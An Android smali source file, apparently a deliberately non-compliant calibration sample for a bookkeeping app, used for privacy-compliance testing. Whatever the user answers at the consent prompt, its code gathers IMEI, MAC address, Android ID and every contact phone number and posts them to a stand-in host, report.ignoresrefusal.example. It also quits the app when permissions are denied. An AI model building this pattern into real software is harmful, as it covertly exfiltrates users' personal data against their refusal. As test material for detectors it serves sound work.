# class MainActivity extends ConsentActivity: does the same whatever the user answers.
.class public Lcn/example/calibration/ignoresrefusal/MainActivity;
.super Lcn/example/calibration/kit/ConsentActivity;

.field public static final COLLECT:I = 0xa
.field public static final COLLECT_AGAIN:I = 0xb

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Lcn/example/calibration/kit/ConsentActivity;-><init>()V
    return-void
.end method

.method protected prompt()Ljava/lang/String;
    .locals 1
    const-string v0, "欢迎使用随手记账。我们重视您的个人信息保护，未经您同意不会收集您的个人信息。请您阅读并选择是否同意以下文件。"
    return-object v0
.end method

.method protected policy()Ljava/lang/String;
    .locals 1
    const-string v0, "一、我们收集IMEI、Android ID、WLAN MAC地址，用于账号安全。二、我们收集通讯录，用于好友推荐。三、我们收集位置信息，用于记录消费地点。四、您可以拒绝，拒绝后可使用记账功能。"
    return-object v0
.end method

.method protected refuseWord()Ljava/lang/String;
    .locals 1
    const-string v0, "拒绝"
    return-object v0
.end method

.method protected home(Z)V
    .locals 2
    const-string v0, "随手记账"
    invoke-virtual {p0, v0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->page(Ljava/lang/String;)V
    const-string v0, "今日支出 36.50 元，本月结余 1280.00 元。"
    invoke-virtual {p0, v0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->say(Ljava/lang/String;)V
    const-string v0, "隐私政策"
    const/4 v1, 0x4
    invoke-virtual {p0, v0, v1}, Lcn/example/calibration/ignoresrefusal/MainActivity;->offer(Ljava/lang/String;I)V
    return-void
.end method

# void begin(boolean agreed): asks for two permissions, reads and sends now and a second later
.method protected begin(Z)V
    .locals 4
    const-string v0, "android.permission.READ_CONTACTS"
    const-string v1, "android.permission.ACCESS_FINE_LOCATION"
    filled-new-array {v0, v1}, [Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0x1
    invoke-virtual {p0, v1, v0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->ask(I[Ljava/lang/String;)V
    const/16 v0, 0xa
    invoke-static {p0, v0}, Lcn/example/calibration/kit/Call;->inBackground(Lcn/example/calibration/kit/Action;I)V
    const-wide/16 v0, 1000
    const/16 v2, 0xb
    invoke-static {v0, v1, p0, v2}, Lcn/example/calibration/kit/Call;->after(JLcn/example/calibration/kit/Action;I)V
    return-void
.end method

.method public perform(I)V
    .locals 1
    packed-switch p1, :numbers
    invoke-super {p0, p1}, Lcn/example/calibration/kit/ConsentActivity;->perform(I)V
    return-void
    :collect
    invoke-direct {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->collect()V
    return-void
    :again
    const/16 v0, 0xa
    invoke-static {p0, v0}, Lcn/example/calibration/kit/Call;->inBackground(Lcn/example/calibration/kit/Action;I)V
    return-void
    :numbers
    .packed-switch 0xa
        :collect
        :again
    .end packed-switch
.end method

# private void collect(): one report of all that can be had
.method private collect()V
    .locals 8
    const-string v0, "imei"
    invoke-direct {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->imei()Ljava/lang/String;
    move-result-object v1
    const-string v2, "mac"
    invoke-direct {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->mac()Ljava/lang/String;
    move-result-object v3
    const-string v4, "contacts"
    invoke-direct {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->contacts()Ljava/lang/String;
    move-result-object v5
    const-string v6, "android_id"
    invoke-virtual {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v7
    invoke-static {v7, v6}, Landroid/provider/Settings$Secure;->getString(Landroid/content/ContentResolver;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v7
    filled-new-array/range {v0 .. v7}, [Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcn/example/calibration/kit/Json;->of([Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    const-string v1, "https://report.ignoresrefusal.example/profile"
    invoke-static {v1, v0}, Lcn/example/calibration/kit/Http;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method

# private String imei(): null without READ_PHONE_STATE; the attempt is what counts
.method private imei()Ljava/lang/String;
    .locals 2
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    :try_start
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    :try_end
    .catch Ljava/lang/SecurityException; {:try_start .. :try_end} :denied
    return-object v0
    :denied
    move-exception v0
    const/4 v0, 0x0
    return-object v0
.end method

# private String mac() { return wifi.getConnectionInfo().getMacAddress(); }
.method private mac()Ljava/lang/String;
    .locals 2
    invoke-virtual {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->getApplicationContext()Landroid/content/Context;
    move-result-object v0
    const-string v1, "wifi"
    invoke-virtual {v0, v1}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/net/wifi/WifiManager;
    :try_start
    invoke-virtual {v0}, Landroid/net/wifi/WifiManager;->getConnectionInfo()Landroid/net/wifi/WifiInfo;
    move-result-object v0
    invoke-virtual {v0}, Landroid/net/wifi/WifiInfo;->getMacAddress()Ljava/lang/String;
    move-result-object v0
    :try_end
    .catch Ljava/lang/SecurityException; {:try_start .. :try_end} :denied
    return-object v0
    :denied
    move-exception v0
    const/4 v0, 0x0
    return-object v0
.end method

# private String contacts(): all numbers in the address book, separated by commas
.method private contacts()Ljava/lang/String;
    .locals 6
    :try_start
    invoke-virtual {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const-string v1, "content://com.android.contacts/data/phones"
    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    :try_end
    .catch Ljava/lang/SecurityException; {:try_start .. :try_end} :denied
    if-eqz v0, :none
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    const-string v2, "data1"
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v2
    if-ltz v2, :end
    :next
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v3
    if-eqz v3, :end
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    invoke-virtual {v1, v3}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/16 v3, 0x2c
    invoke-virtual {v1, v3}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    goto :next
    :end
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
    :denied
    move-exception v0
    :none
    const/4 v0, 0x0
    return-object v0
.end method

# void onRequestPermissionsResult(...): after consent, no permission, no use
.method public onRequestPermissionsResult(I[Ljava/lang/String;[I)V
    .locals 3
    invoke-virtual {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->agreed()Z
    move-result v0
    if-eqz v0, :stay
    const/4 v0, 0x0
    array-length v1, p3
    :next
    if-ge v0, v1, :stay
    aget v2, p3, v0
    if-nez v2, :exit
    add-int/lit8 v0, v0, 0x1
    goto :next
    :exit
    invoke-virtual {p0}, Lcn/example/calibration/ignoresrefusal/MainActivity;->finish()V
    const/4 v0, 0x0
    invoke-static {v0}, Ljava/lang/System;->exit(I)V
    :stay
    return-void
.end method
